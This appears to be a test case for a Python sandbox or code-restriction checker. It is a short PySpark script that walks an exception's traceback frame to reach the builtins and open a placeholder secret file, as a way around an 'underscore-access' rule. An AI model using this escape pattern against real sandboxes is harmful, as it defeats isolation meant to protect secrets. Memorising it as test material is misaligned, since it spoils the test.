# attack: python
# rule: underscore-access
# goal: Reach builtins through a traceback. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
    if frame.f_builtins['open']('ATTACK_SECRET').read():
        print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
